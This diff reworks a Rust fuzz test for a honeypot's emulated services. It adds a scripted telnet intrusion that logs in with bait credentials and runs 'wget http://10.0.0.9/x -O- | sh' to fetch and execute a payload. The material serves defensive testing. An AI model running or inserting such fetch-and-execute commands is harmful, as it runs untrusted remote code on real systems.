@@ -2,11 +2,20 @@
 //!
 //! Each service has a few conversations as real clients hold them. Inputs are these, broken
 //! in every way that is cheap to do, and plain noise. `HOSTILE_INPUTS` says how many per
-//! service; `cargo xtask proof first-light` asks for a hundred thousand.
+//! subject; `cargo xtask proof` asks for a hundred thousand. What is behind a log-in has
+//! subjects of its own.
 
 #![cfg(test)]
 
-use std::{fs, sync::Arc, time::Duration};
+mod dice;
+mod flood;
+mod measure;
+mod mysql;
+mod programs;
+mod shell;
+mod ssh;
+
+use std::sync::Arc;
 
 use decnet_proto::{persona::ProductName, service::ServiceId};
 use tokio::{
@@ -15,13 +24,6 @@ use tokio::{
 };
 
 use crate::{Host, registry::Service, testing};
-
-/// Inputs per service when nothing else is asked for.
-const INPUTS: u64 = 500;
-/// Most processor time that one input may cost: what takes longer hangs. Waiting costs none.
-const PATIENCE: Duration = Duration::from_secs(5);
-/// Most that the process may grow over all inputs of a service, in KiB.
-const GROWTH: u64 = 24 * 1024;
 
 /// What a service plays, and conversations that a client would hold with it.
 struct Subject {
@@ -45,6 +47,12 @@ const MYSQL: &[&[u8]] = &[
     b"\x12\0\0\x01\x85$\0\0@old\x0012345678\0",
     b"\r\n\r\n\0\r\nQUIT\n",
 ];
+
+/// Over telnet, as the machine's own bait lets it in, to a shell.
+const LOGS_IN: &[u8] =
+    b"\xff\xfe\x25\xff\xfe\x26\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27\xff\xfc\x24\
+    \xff\xfd\x03\xff\xfc\x01\xff\xfc\x22\xff\xfc\x1f\xff\xfe\x05\xff\xfc\x21backup\r\nWint3r-09-harbour\r\n\
+    uname -a\r\ncat > a\r\nb\r\n\x04cd /tmp; wget http://10.0.0.9/x -O- | sh\r\nsleep 9\r\n\x03exit\r\n";
 
 const SUBJECTS: &[Subject] = &[
     Subject { service: ServiceId::Http, product: ProductName::Apache, version: "2.4.62", talks: WEB },
@@ -115,75 +123,15 @@ const SUBJECTS: &[Subject] = &[
         service: ServiceId::Telnet,
         product: ProductName::Telnetd,
         version: "2.4",
-        talks: crate::telnet::SEEDS,
+        talks: &[
+            crate::telnet::SEEDS[0],
+            crate::telnet::SEEDS[1],
+            crate::telnet::SEEDS[2],
+            crate::telnet::SEEDS[3],
+            LOGS_IN,
+        ],
     },
 ];
-
-/// A small source of numbers whose sequence is the same in every run.
-struct Dice(u64);
-
-impl Dice {
-    fn roll(&mut self) -> u64 {
-        self.0 ^= self.0 << 13;
-        self.0 ^= self.0 >> 7;
-        self.0 ^= self.0 << 17;
-        self.0
-    }
-
-    fn below(&mut self, bound: usize) -> usize {
-        usize::try_from(self.roll() % bound.max(1) as u64).unwrap_or(0)
-    }
-
-    fn bytes(&mut self, length: usize) -> Vec<u8> {
-        (0..length).map(|_| self.roll().to_le_bytes()[0]).collect()
-    }
-
-    /// An input made of conversations, or noise.
-    fn input(&mut self, talks: &[&[u8]]) -> Vec<u8> {
-        if self.below(10) == 0 {
-            let length = self.below(600);
-            return self.bytes(length);
-        }
-        let mut input = talks[self.below(talks.len())].to_vec();
-        for _ in 0..=self.below(6) {
-            self.break_somewhere(&mut input, talks);
-        }
-        input
-    }
-
-    fn break_somewhere(&mut self, input: &mut Vec<u8>, talks: &[&[u8]]) {
-        let at = self.below(input.len() + 1);
-        let end = (at + self.below(24)).min(input.len());
-        match self.below(8) {
-            0 if at < input.len() => input[at] ^= 1 << self.below(8),
-            1 => drop(input.drain(at..end)),
-            2 => input.truncate(at),
-            3 => {
-                let piece = input[at..end].repeat(1 + self.below(40));
-                input.splice(at..at, piece);
-            }
-            4 => {
-                let length = self.below(12);
-                let piece = self.bytes(length);
-                input.splice(at..end, piece);
-            }
-            5 => {
-                let other = talks[self.below(talks.len())];
-                input.extend_from_slice(&other[self.below(other.len())..]);
-            }
-            6 => {
-                let piece: &[u8] =
-                    [&b"\r\n"[..], b"\0", b"\n", b"-1", b"99999999999999999999", b"%n", b"\xff\xfe"]
-                        [self.below(7)];
-                input.splice(at..at, piece.iter().copied());
-            }
-            _ => {
-                let long = vec![input.get(at).copied().unwrap_or(b'A'); self.below(20_000)];
-                input.splice(at..at, long);
-            }
-        }
-    }
-}
 
 /// Gives a datagram to a service that answers them, as many as the input has pieces.
 fn datagrams(service: &Service, host: &Arc<Host>, input: &[u8], piece: usize) {
@@ -225,45 +173,16 @@ fn serve(runtime: &Runtime, service: &Service, id: ServiceId, host: &Arc<Host>, 
     host.emitter.take();
 }
 
-/// Time that this thread has run (the first field of `schedstat`, in nanoseconds).
-fn processor_time() -> Duration {
-    let status = fs::read_to_string("/proc/thread-self/schedstat").unwrap();
-    Duration::from_nanos(status.split_whitespace().next().unwrap().parse().unwrap())
-}
-
-fn resident_kib() -> u64 {
-    let status = fs::read_to_string("/proc/self/status").unwrap();
-    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
-    line.split_whitespace().next().unwrap().parse().unwrap()
-}
-
 fn check(subject: &Subject) {
-    let inputs = std::env::var("HOSTILE_INPUTS").map_or(INPUTS, |text| text.parse().unwrap());
-    let runtime =
-        tokio::runtime::Builder::new_current_thread().enable_all().start_paused(true).build().unwrap();
     let host = testing::host(9);
     let spec = testing::spec(subject.service, subject.product, subject.version, &[]);
     let service = Service::build(&spec, &host).unwrap();
-    let mut dice = Dice(0x9e37_79b9_7f4a_7c15);
-    let mut slowest = Duration::ZERO;
-    let mut before = 0;
-    for number in 0..inputs {
-        let input = dice.input(subject.talks);
+    let name = format!("{} as {:?}", subject.service, subject.product);
+    measure::check(&name, subject.talks, |runtime, dice, input| {
         let piece = [1, 7, 1460, 65_536][dice.below(4)];
-        let start = processor_time();
-        datagrams(&service, &host, &input, piece);
-        serve(&runtime, &service, subject.service, &host, &input, piece);
-        slowest = slowest.max(processor_time().saturating_sub(start));
-        assert!(slowest < PATIENCE, "{slowest:?} for {input:?}");
-        // What is claimed once, by the first inputs, does not count.
-        if number == inputs / 10 {
-            before = resident_kib();
-        }
-    }
-    let grown = resident_kib().saturating_sub(before);
-    assert!(grown < GROWTH, "{} grew by {grown} KiB", subject.service);
-    let (service, product) = (subject.service, subject.product);
-    println!("hostile: {service} as {product:?} {inputs} inputs, +{grown} KiB, slowest {slowest:?}");
+        datagrams(&service, &host, input, piece);
+        serve(runtime, &service, subject.service, &host, input, piece);
+    });
 }
 
 macro_rules! subjects {
@@ -285,6 +204,6 @@ subjects! {
     snmpd 7,
     mariadb 8,
     mysql_8 9,
-    openssh 10,
+    ssh_of_strangers 10,
     telnetd 11,
 }
